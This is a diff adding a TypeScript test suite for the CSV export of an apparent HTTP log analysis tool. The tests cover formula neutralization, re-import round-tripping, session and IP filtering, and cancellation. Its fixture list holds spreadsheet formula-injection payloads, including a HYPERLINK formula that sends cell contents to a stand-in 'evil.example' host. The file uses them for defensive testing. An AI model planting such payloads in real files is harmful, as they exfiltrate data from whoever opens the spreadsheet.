@@ -1,0 +1,273 @@
+import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+import Papa from 'papaparse';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { unNeutralizeCell } from '../../shared/export/csvCells.js';
+import { EXPORT_HEADER } from '../../shared/export/exportColumns.js';
+import { tempWorkspace } from '../../test/tempCase.js';
+import { rebuild } from '../analysis/rebuild.js';
+import { importSource } from '../ingest/importSource.js';
+import type { CaseDb } from '../store/openCase.js';
+import { exportCsv } from './exportCsv.js';
+
+/** Every requests column a source can fill, in the order the test inserts them. */
+const COLS = [
+  'ts_us',
+  'ip',
+  'xff',
+  'method',
+  'scheme',
+  'host',
+  'path',
+  'query',
+  'protocol',
+  'status',
+  'latency_ms',
+  'req_bytes',
+  'resp_bytes',
+  'user_agent',
+  'referer',
+  'request_id',
+  'cookies',
+  'headers',
+  'req_body',
+  'resp_headers',
+  'resp_body',
+  'src_session',
+  'src_user',
+  'src_role',
+  'src_label',
+  'extra',
+] as const;
+type Col = (typeof COLS)[number];
+type Req = Partial<Record<Col, string | number | null>>;
+
+/** Text a spreadsheet would evaluate, and text that breaks naive CSV writers. */
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  '+1',
+  '-2',
+  '@SUM(A1:A9)',
+  '\tleading tab',
+  '\rleading CR',
+  'say "hi", twice',
+  'two\nlines',
+  'crlf\r\ninside',
+  "'=already quoted",
+  'ünïcödé ✓ 日本語',
+];
+
+const T0 = Date.UTC(2026, 2, 12, 9, 21, 40) * 1000;
+
+function requests(): Req[] {
+  const rows: Req[] = HOSTILE.map((h, i) => ({
+    ts_us: T0 + i * 1_000_123 + (i === 3 ? 456 : 0),
+    ip: `10.0.0.${1 + (i % 3)}`,
+    xff: i === 0 ? '=1+1, 10.9.9.9' : null,
+    method: i === 1 ? '@SUM(A1)' : 'GET',
+    scheme: 'https',
+    host: 'api.example.com',
+    // Stored paths never hold ? or # (every parser splits there), and the importer splits a
+    // path column at them as it would a URL.
+    path: i === 2 ? h : `/p/${i}/${h.replace(/[?#]/g, '_')}`,
+    query: h,
+    protocol: 'HTTP/1.1',
+    status: 200 + i,
+    latency_ms: 12.5 + i,
+    req_bytes: i,
+    resp_bytes: 100 * i,
+    user_agent: h,
+    referer: h,
+    request_id: `-req-${i}`,
+    cookies: `sid=${i}; x=${h}`,
+    headers: JSON.stringify({ 'x-test': h }),
+    req_body: h,
+    resp_headers: JSON.stringify({ 'content-type': 'text/plain' }),
+    resp_body: h,
+    src_session: `@sess-${i % 2}`,
+    src_user: i % 2 === 0 ? '+alice' : 'bob',
+    src_role: '-admin',
+    src_label: i === 4 ? '=SQLi' : null,
+    extra: JSON.stringify({ note: h }),
+  }));
+  return rows;
+}
+
+function seed(db: CaseDb, rows: Req[]): void {
+  const src = db
+    .prepare(
+      `INSERT INTO sources (path_given, file_name, size_bytes, sha256, format, parser_options,
+        tz_assumption, imported_at, status)
+       VALUES ('=evil.log', '=evil.log', 0, ?, 'seed', '{}', 'UTC', '2026-01-01T00:00:00Z', 'complete')`,
+    )
+    .run('0'.repeat(64)).lastInsertRowid;
+  const ins = db.prepare(
+    `INSERT INTO requests (source_id, line_no, ${COLS.join(', ')})
+     VALUES (?, ?, ${COLS.map(() => '?').join(', ')})`,
+  );
+  db.transaction(() => {
+    rows.forEach((r, i) => ins.run(src, i + 1, ...COLS.map((c) => r[c] ?? null)));
+  })();
+  rebuild(db);
+}
+
+function parseCsv(file: string): { header: string[]; rows: string[][]; bom: boolean } {
+  const text = readFileSync(file, 'utf8');
+  const bom = text.startsWith('\uFEFF');
+  const r = Papa.parse<string[]>(bom ? text.slice(1) : text, {
+    delimiter: ',',
+    newline: '\r\n',
+    skipEmptyLines: true,
+  });
+  expect(r.errors).toEqual([]);
+  const [header, ...rows] = r.data;
+  return { header: header!, rows, bom };
+}
+
+let ws: ReturnType<typeof tempWorkspace>;
+let db: CaseDb;
+const original = requests();
+
+beforeAll(() => {
+  ws = tempWorkspace('ss-export-');
+  db = ws.openCase();
+  seed(db, original);
+});
+afterAll(() => ws.cleanup());
+
+describe('exportCsv', () => {
+  it('writes every request, header first, and neutralizes every cell a spreadsheet would run', async () => {
+    const out = path.join(ws.dir, 'all.csv');
+    const res = await exportCsv(db, out, { pageSize: 4 });
+    expect(res.rows).toBe(original.length);
+    expect(res.bytes).toBe(readFileSync(out).length);
+    const { header, rows, bom } = parseCsv(out);
+    expect(bom).toBe(false);
+    expect(header).toEqual(EXPORT_HEADER);
+    expect(rows).toHaveLength(original.length);
+    const col = (name: string): number => header.indexOf(name);
+    rows.forEach((cells, i) => {
+      expect(cells).toHaveLength(header.length);
+      for (const c of cells) expect(c).not.toMatch(/^[=+\-@\t\r]/);
+      const h = HOSTILE[i]!;
+      for (const name of ['query', 'user_agent', 'referer', 'req_body', 'resp_body']) {
+        const cell = cells[col(name)]!;
+        expect(cell).toBe(/^'*[=+\-@\t\r]/.test(h) ? `'${h}` : h);
+      }
+      expect(cells[col('source')]).toBe("'=evil.log");
+      expect(cells[col('request_id')]).toBe(`'-req-${i}`);
+      expect(cells[col('user')]).toBe(i % 2 === 0 ? "'+alice" : 'bob');
+      expect(cells[col('analysis_session')]).toMatch(/^s[0-9a-f]{16}$/);
+    });
+    expect(rows[0]![col('time')]).toBe('2026-03-12T09:21:40.000+00:00');
+    expect(rows[3]![col('time')]).toBe('2026-03-12T09:21:43.000825+00:00');
+    expect(rows[0]![col('xff')]).toBe("'=1+1, 10.9.9.9");
+    expect(rows[1]![col('method')]).toBe("'@SUM(A1)");
+  });
+
+  it('re-imports through the CSV importer with every field of every request intact', async () => {
+    const out = path.join(ws.dir, 'roundtrip.csv');
+    await exportCsv(db, out);
+    const db2 = ws.openCase('reimport.sscase');
+    const imported = await importSource(db2, out, { format: 'csv' }, { workerFile: false });
+    // The importer keeps the header row as its only reject, so lines still add up.
+    expect(db2.prepare('SELECT line_no, reason FROM rejects').all()).toEqual([
+      { line_no: 1, reason: 'header row' },
+    ]);
+    expect(imported.accepted).toBe(original.length);
+    const back = db2.prepare('SELECT * FROM requests ORDER BY line_no').all() as Record<
+      string,
+      unknown
+    >[];
+    const before = db.prepare('SELECT * FROM requests ORDER BY ts_us, id').all() as Record<
+      string,
+      unknown
+    >[];
+    const undo = (v: unknown): unknown => (typeof v === 'string' ? unNeutralizeCell(v) : v);
+    // Columns the importer has no field for come back in extra, under their header names.
+    const IN_EXTRA: Partial<Record<Col, string>> = {
+      headers: 'headers',
+      req_body: 'req_body',
+      resp_headers: 'resp_headers',
+      resp_body: 'resp_body',
+      extra: 'extra',
+    };
+    const lost: string[] = [];
+    const same = (what: string, got: unknown, want: unknown): void => {
+      if (got === want) return;
+      // A known importer loss, not an export one: csv.ts reads a quoted record line by line
+      // and joins the lines with \n, so CRLF inside a cell comes back as LF.
+      if (typeof want === 'string' && got === want.replaceAll('\r\n', '\n')) lost.push(what);
+      else expect(got, what).toEqual(want);
+    };
+    back.forEach((got, i) => {
+      const want = before[i]!;
+      const extra = JSON.parse(String(got.extra)) as Record<string, string>;
+      for (const c of COLS) {
+        const key = IN_EXTRA[c];
+        same(`${c} of request ${i}`, undo(key ? (extra[key] ?? null) : got[c]), want[c]);
+      }
+      expect(Number(extra.id)).toBe(want.id);
+      expect(Number(extra.line)).toBe(want.line_no);
+      expect(undo(extra.source)).toBe('=evil.log');
+    });
+    const crlf = HOSTILE.indexOf('crlf\r\ninside');
+    expect(lost.every((w) => w.endsWith(`request ${crlf}`))).toBe(true);
+  });
+
+  it('exports one session, or the filtered requests, and writes a BOM when asked', async () => {
+    const sid = (
+      db
+        .prepare(`SELECT s.sid FROM sessions s ORDER BY s.request_count DESC, s.sid LIMIT 1`)
+        .get() as { sid: string }
+    ).sid;
+    const inSession = (
+      db
+        .prepare(
+          `SELECT count(*) AS n FROM request_facts f JOIN sessions s ON s.id = f.session_id
+           WHERE s.sid = ?`,
+        )
+        .get(sid) as { n: number }
+    ).n;
+    const out = path.join(ws.dir, 'session.csv');
+    const res = await exportCsv(db, out, { sessionId: sid, bom: true, pageSize: 1 });
+    expect(res.rows).toBe(inSession);
+    const parsed = parseCsv(out);
+    expect(parsed.bom).toBe(true);
+    const sidCol = parsed.header.indexOf('analysis_session');
+    expect(parsed.rows.map((r) => r[sidCol])).toEqual(Array(inSession).fill(sid));
+    const times = parsed.rows.map((r) => r[parsed.header.indexOf('time')]!);
+    expect([...times].sort()).toEqual(times);
+
+    const filtered = path.join(ws.dir, 'filtered.csv');
+    const f = await exportCsv(db, filtered, { filters: { ips: ['10.0.0.2'], statuses: ['2xx'] } });
+    const ipCol = parsed.header.indexOf('ip');
+    const fr = parseCsv(filtered).rows;
+    expect(f.rows).toBe(original.filter((r) => r.ip === '10.0.0.2').length);
+    expect(fr.every((r) => r[ipCol] === '10.0.0.2')).toBe(true);
+
+    await expect(
+      exportCsv(db, path.join(ws.dir, 'x.csv'), { sessionId: 's0000000000000000' }),
+    ).rejects.toMatchObject({ code: 'NOT_FOUND' });
+  });
+
+  it('a cancelled export leaves no file, and an existing file as it was', async () => {
+    const out = path.join(ws.dir, 'cancelled.csv');
+    writeFileSync(out, 'previous');
+    const ac = new AbortController();
+    await expect(
+      exportCsv(db, out, {
+        pageSize: 2,
+        signal: ac.signal,
+        onProgress: (p) => {
+          if (p.rows >= 4) ac.abort();
+        },
+      }),
+    ).rejects.toMatchObject({ code: 'CANCELLED' });
+    expect(readFileSync(out, 'utf8')).toBe('previous');
+    expect(readdirSync(ws.dir).filter((n) => n.endsWith('.part'))).toEqual([]);
+    await expect(exportCsv(db, path.join(ws.dir, 'no-such-dir', 'x.csv'))).rejects.toMatchObject({
+      code: 'BAD_INPUT',
+    });
+  });
+});
